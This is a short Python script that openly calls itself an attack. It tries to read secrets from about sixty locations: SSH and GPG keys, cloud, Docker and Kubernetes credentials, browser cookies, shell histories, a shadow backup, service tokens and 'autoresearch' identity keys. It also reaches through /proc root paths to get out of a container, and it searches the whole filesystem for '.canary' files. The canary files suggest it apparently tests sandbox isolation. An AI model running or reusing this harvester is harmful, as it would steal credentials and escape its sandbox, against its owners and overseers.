# Tries: to read secrets in sixty places: home, keys, clouds, configuration, caches, run-time folders, disks.
import glob
import os
import sys

SKIPPED = ("/proc", "/sys", "/usr", sys.base_prefix)
HOMES = ("/root", "/home/owner", "/home/ubuntu", os.path.expanduser("~"))
PLACES = (
    "~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.ssh/config", "~/.ssh/authorized_keys", "~/.gnupg/private-keys-v1.d/key",
    "~/.aws/credentials", "~/.aws/config", "~/.azure/accessTokens.json",
    "~/.config/gcloud/application_default_credentials.json", "~/.kube/config", "~/.docker/config.json", "~/.netrc",
    "~/.pgpass", "~/.my.cnf", "~/.npmrc", "~/.pypirc", "~/.cargo/credentials.toml", "~/.git-credentials",
    "~/.gitconfig", "~/.config/git/credentials", "~/.config/gh/hosts.yml", "~/.cache/huggingface/token",
    "~/.config/autoresearch/identity.key", "~/.local/share/autoresearch/identity.key",
    "~/.local/share/keyrings/login.keyring", "~/.mozilla/firefox/profiles.ini", "~/.config/chromium/Default/Cookies",
    "~/.bash_history", "~/.python_history", "~/.Xauthority", "~/.ICEauthority",
    "~/.local/share/autoresearch/replica.sqlite3", "~/.env", "~/Documents/notes.txt", "/etc/autoresearch.conf",
    "/etc/ssh/ssh_host_ed25519_key", "/etc/kubernetes/admin.conf", "/etc/wireguard/wg0.conf",
    "/etc/NetworkManager/system-connections/home", "/etc/sudoers.d/owner", "/var/lib/autoresearch/identity.key",
    "/var/lib/docker/config.json", "/var/backups/shadow.bak", "/var/log/auth.log", "/var/spool/cron/root",
    "/var/tmp/token", "/var/mail/root", "/run/secrets/token", "/run/user/0/token",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/autoresearch/token", "/tmp/token",
    "/tmp/ssh-agent/key", "/dev/shm/token", "/opt/secret/key", "/srv/secret/key", "/mnt/backup/key",
    "/media/stick/key", "/home/owner/secret", "/boot/key", "/usr/local/etc/secret.key", "/root/secret.key",
)


def main():
    tried = 0
    for place in PLACES:
        for home in HOMES if place.startswith("~") else [""]:
            path = home + place.removeprefix("~")
            for root in ("", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/..", "/out/..", "/dev/fd/0/.."):
                for name in [root + path, *glob.glob(f"{root}{path}.canary*")]:
                    tried += 1
                    try:
                        with open(name, "rb") as file:
                            print("OBTAINED", name, file.read(200))
                    except OSError:
                        pass
    print("tried", tried)
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in SKIPPED]
        for name in files:
            if ".canary" in name:
                print("OBTAINED", os.path.join(folder, name))


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
